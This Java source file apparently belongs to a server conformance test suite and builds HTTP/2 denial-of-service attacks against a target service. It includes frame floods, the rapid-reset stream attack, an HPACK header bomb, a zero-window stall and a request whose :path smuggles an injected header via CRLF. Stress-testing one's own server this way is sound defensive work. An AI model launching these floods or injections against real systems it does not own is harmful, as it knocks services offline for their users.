package dev.sluice.conformance.attack;

import static dev.sluice.conformance.attack.Http2Wire.block;
import static dev.sluice.conformance.attack.Http2Wire.frame;
import static dev.sluice.conformance.attack.Http2Wire.join;
import static dev.sluice.conformance.attack.Http2Wire.repeat;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.ByteBuffer;
import java.time.Duration;
import java.util.List;

/** Connections of HTTP/2 that send what costs them little. */
final class Http2Floods {
  private static final int FRAMES = 500;
  private static final byte[] BEGUN_POST =
      frame(Http2Wire.HEADERS, Http2Wire.END_HEADERS, 1, block(true, "/whep/live"));
  private static final byte[] OPEN_BLOCK = frame(Http2Wire.HEADERS, 0, 1, block(false, "/"));

  /** The error code of RST_STREAM; also a good increment of WINDOW_UPDATE. */
  private static final byte[] CANCEL = {0, 0, 0, 8};

  private Http2Floods() {}

  static List<Shape> shapes() {
    return List.of(
        flood("empty CONTINUATION", OPEN_BLOCK, frame(Http2Wire.CONTINUATION, 0, 1), 1_300_000, 3),
        flood("header block without end", OPEN_BLOCK, literals(), 4_000_000, 2),
        flood("SETTINGS", new byte[0], frame(Http2Wire.SETTINGS, 0, 0), 600_000, 2),
        flood("PING", new byte[0], frame(Http2Wire.PING, 0, 0, new byte[8]), 600_000, 2),
        flood("PRIORITY", new byte[0], frame(Http2Wire.PRIORITY, 0, 1, new byte[5]), 600_000, 2),
        flood(
            "WINDOW_UPDATE", new byte[0], frame(Http2Wire.WINDOW_UPDATE, 0, 0, CANCEL), 600_000, 2),
        flood("empty DATA", BEGUN_POST, frame(Http2Wire.DATA, 0, 1), 600_000, 2),
        flood("unknown frames", new byte[0], frame(0x77, 0, 0), 600_000, 2),
        flood(
            "RST_STREAM of idle streams",
            new byte[0],
            frame(Http2Wire.RST_STREAM, 0, 99, CANCEL),
            600_000,
            2),
        new Shape("rapid reset", "opens streams and resets them", rapidReset().repeated().times(2)),
        new Shape(
            "HPACK bomb",
            "refers to one long header 8000 times in a block",
            bomb().repeated().times(2)),
        new Shape(
            "window of 0",
            "asks for files and allows no byte of an answer",
            noWindow().repeated().times(4)),
        new Shape(
            "malformed :path", "has CR and LF in :path, then asks well", malformed().repeated()));
  }

  private static Shape flood(
      String name, byte[] begin, byte[] frame, int bytesPerSecond, int times) {
    byte[] piece = repeat(frame, Math.max(1, Math.min(FRAMES, 65536 / frame.length)));
    Attack once =
        target -> {
          try (Wire wire = open(target)) {
            wire.send(begin);
            wire.flood(piece, bytesPerSecond);
          }
        };
    String description =
        "sends %s at %d kB/s on %d connections".formatted(name, bytesPerSecond / 1000, times);
    return new Shape("HTTP/2 " + name, description, once.repeated().times(times));
  }

  /** A connection whose answers are read and thrown away. */
  private static Wire open(Target target) throws IOException {
    Wire wire = target.connect(target.service().publicTcp());
    Http2Wire.begin(wire);
    Thread.ofVirtual()
        .start(
            () -> {
              try {
                wire.discard();
              } catch (IOException e) {
                // The connection has ended.
              }
            });
    return wire;
  }

  private static byte[] literals() {
    ByteArrayOutputStream block = new ByteArrayOutputStream();
    for (int i = 0; i < 100; i++) {
      block.write(0);
      Http2Wire.text(block, "x-header-" + i);
      Http2Wire.text(block, "a".repeat(100));
    }
    return frame(Http2Wire.CONTINUATION, 0, 1, block.toByteArray());
  }

  private static Attack rapidReset() {
    return target -> {
      try (Wire wire = open(target)) {
        byte[] block = block(true, "/whep/live", "content-type", "application/sdp");
        for (int id = 1; !target.isOver(); ) {
          ByteArrayOutputStream piece = new ByteArrayOutputStream();
          for (int i = 0; i < 50; i++, id += 2) {
            piece.writeBytes(frame(Http2Wire.HEADERS, Http2Wire.END_HEADERS, id, block));
            piece.writeBytes(frame(Http2Wire.RST_STREAM, 0, id, CANCEL));
          }
          wire.send(piece.toByteArray());
          target.pause(Duration.ofMillis(20));
        }
      }
    };
  }

  /** The dynamic table has one entry of 4000 bytes; index 62 names it. */
  private static Attack bomb() {
    return target -> {
      ByteArrayOutputStream insert = new ByteArrayOutputStream();
      insert.writeBytes(block(false, "/"));
      insert.write(0x40);
      Http2Wire.text(insert, "x");
      Http2Wire.text(insert, "a".repeat(3900));
      byte[] references = repeat(new byte[] {(byte) (0x80 | 62)}, 8000);
      try (Wire wire = open(target)) {
        for (int id = 1; !target.isOver(); id += 2) {
          int flags = Http2Wire.END_HEADERS | Http2Wire.END_STREAM;
          byte[] block = id == 1 ? insert.toByteArray() : join(block(false, "/"), references);
          wire.send(frame(Http2Wire.HEADERS, flags, id, block));
          target.pause(Duration.ofMillis(20));
        }
      }
    };
  }

  private static Attack noWindow() {
    return target -> {
      try (Wire wire = target.connect(target.service().publicTcp())) {
        Http2Wire.begin(wire, ByteBuffer.allocate(6).putShort((short) 4).putInt(0).array());
        int flags = Http2Wire.END_HEADERS | Http2Wire.END_STREAM;
        for (int id = 1; !target.isOver(); id += 2) {
          wire.send(frame(Http2Wire.HEADERS, flags, id, block(false, "/player.js")));
          target.pause(Duration.ofMillis(5));
        }
      }
    };
  }

  private static Attack malformed() {
    int flags = Http2Wire.END_HEADERS | Http2Wire.END_STREAM;
    byte[] bad = frame(Http2Wire.HEADERS, flags, 1, block(false, "/whep/live\r\nX-Injected: yes"));
    byte[] length =
        frame(
            Http2Wire.HEADERS,
            Http2Wire.END_HEADERS,
            3,
            block(true, "/whep/live", "content-length", "-5"));
    byte[] good = frame(Http2Wire.HEADERS, flags, 5, block(false, "/"));
    return target -> {
      for (byte[] one : List.of(bad, length)) {
        try (Wire wire = target.connect(target.service().publicTcp())) {
          Http2Wire.begin(wire);
          wire.send(join(one, good));
          if (!Http2Wire.awaitHeaders(wire, 5) && !target.isOver()) {
            target.fault("a malformed request cost the connection and not its stream");
          }
        }
      }
    };
  }
}
